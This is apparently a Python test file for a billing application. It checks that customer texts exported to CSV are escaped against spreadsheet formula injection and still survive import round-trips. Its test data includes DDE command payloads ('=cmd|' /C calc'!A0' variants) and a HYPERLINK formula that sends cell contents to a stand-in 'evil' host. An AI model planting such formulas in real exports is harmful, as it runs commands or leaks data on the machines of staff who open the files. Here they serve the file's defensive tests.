"""Texts of customers and of billing in the files that staff open in a spreadsheet."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import asyncpg
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lk_graphql.billing.models import ReceivedPayment
from lk_graphql.exchange.models import ExportFormat, ExportKind
from lk_graphql.exchange.service.exports import dump, export_rows
from lk_graphql.import_formats.service.catalog import KINDS, inspect_file
from lk_graphql.import_formats.service.kinds import ImportKind
from lk_graphql.kit.pasted_text import strip_invisible
from lk_graphql.kit.viewer import Viewer
from lk_graphql.tabular.spreadsheet_cells import csv_line, escape_cell, unescape_cell
from lk_graphql.tabular.table_files import SourceReader
from tests.exchange.billing_files import ACCOUNTS
from tests.factories.appeals import given_appeal
from tests.support.import_runner import ImportRunner

LONG_AGO = datetime(2026, 1, 1, tzinfo=UTC)
HEADER = "account;external_id;paid_on;amount;agent"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+7+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    '"=1+1"',
    "'=1+1",
]
LETTERS = [*map(chr, range(0x20, 0x7F)), *"АБВабвЁё№«»₽\n"]
DANGEROUS = {*"=+-@\t\r\n"}


def cells(content: bytes) -> list[list[str]]:
    lines = content.decode("utf-8-sig").splitlines(keepends=True)
    return [*csv.reader(lines, delimiter=";", strict=True)][1:]


async def test_customers_texts_are_exported_with_an_apostrophe(database: str, anna: Viewer):
    for text in FORMULAS:
        await given_appeal(anna, text)
    connection = await asyncpg.connect(database)

    batches = export_rows(connection, ExportKind.APPEALS, ExportFormat.CSV, since=LONG_AGO)
    content = b"".join([line async for batch in batches for line in batch])

    await connection.close()
    texts = [row[8] for row in cells(content)]
    assert texts == [f"'{text}" for text in FORMULAS]
    assert not [cell for row in cells(content) for cell in row if cell[:1] in DANGEROUS]


async def test_json_lines_have_the_texts_themselves(database: str, anna: Viewer):
    await given_appeal(anna, "=1+1")
    connection = await asyncpg.connect(database)

    batches = export_rows(connection, ExportKind.APPEALS, ExportFormat.JSONL, since=LONG_AGO)
    content = b"".join([line async for batch in batches for line in batch])

    await connection.close()
    assert b'"text":"=1+1"' in content


async def test_the_report_of_faults_runs_nothing(importer: ImportRunner):
    """Neither a file's name, which begins each line, nor the value that is quoted."""
    await importer.load(ImportKind.ACCOUNTS, importer.put("a.csv", ACCOUNTS))
    rows = [f"0000000001;P{number};2026-10-07;{text};Почта" for number, text in
            enumerate(("=1+1", "-2+3+cmd", "@SUM(1)", "+A1+1"))]  # fmt: skip
    file = importer.put("=cmd.csv", "\n".join([HEADER, *rows, "0000000001;P9;2026-10-07;-5;Почта"]))

    await importer.load(ImportKind.PAYMENTS, file)

    assert [(row[0], row[4]) for row in cells(importer.report.read_bytes())] == [
        ("'=cmd.csv", "'=1+1"),
        ("'=cmd.csv", "'-2+3+cmd"),
        ("'=cmd.csv", "'@SUM(1)"),
        ("'=cmd.csv", "'+A1+1"),
    ]
    assert await ReceivedPayment.all().values_list("external_id", "amount") == [("P9", -500)]


async def test_texts_of_the_database_come_back_from_a_file(
    importer: ImportRunner, opened: asyncpg.Connection
):
    """Each text is imported, written, and imported again: nothing changes."""
    texts = [*FORMULAS, "NULL", "#N/A", "0801", "'0801", "a;b\n1;2;3;4;5", '"a"', '="0801"', "a\n'"]
    await importer.load(ImportKind.ACCOUNTS, importer.put("a.csv", ACCOUNTS))
    rows = [("0000000001", f"P{n}", "2026-10-07", "-5.00", escape_cell(text))
            for n, text in enumerate(texts)]  # fmt: skip
    content = b"".join(map(csv_line, [HEADER.split(";"), *rows])).decode()
    (payments,) = (r for r in KINDS[ImportKind.PAYMENTS].records if r.name == "payments")

    first = await importer.load(ImportKind.PAYMENTS, importer.put("p.csv", content))
    await dump(opened, payments, importer.folder / "again.csv")
    second = await importer.load(ImportKind.PAYMENTS, importer.folder / "again.csv")

    assert first.faults == second.faults == []
    assert [t.changed + t.inserted for t in second.tallies] == [0, 0]
    assert await ReceivedPayment.all().order_by("id").values_list("agent", flat=True) == texts
    written = cells((importer.folder / "again.csv").read_bytes())
    assert {row[3] for row in written} == {"-5.00"}
    assert [unescape_cell(row[4]) for row in written] == texts


def is_stored(text: str) -> bool:
    """Whether an import keeps it as it is: no blanks around, no damage, and all is seen."""
    lines = text.replace("\r", "")
    return (
        text == strip_invisible(lines) == lines.strip()
        and "???" not in text
        and "\ufffd" not in text
    )


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.one_of(
        st.text(LETTERS, min_size=1),
        st.lists(st.sampled_from([*"=+-@\n;\"' 0aЯ#", "NULL"]), min_size=1).map("".join),
    ).filter(is_stored)
)
def test_an_import_reads_every_text_that_we_write(tmp_path: Path, text: str):
    file = tmp_path / "p.csv"
    row = ("0000000001", "P1", "2026-10-07", "-5.00", escape_cell(text))
    file.write_bytes(b"".join(map(csv_line, [HEADER.split(";"), row])))

    (line,) = SourceReader(source := inspect_file(file)).lines(source.columns)

    assert line.fault_code is None
    assert line.cells == ("0000000001", "P1", "2026-10-07", "-5.00", text)
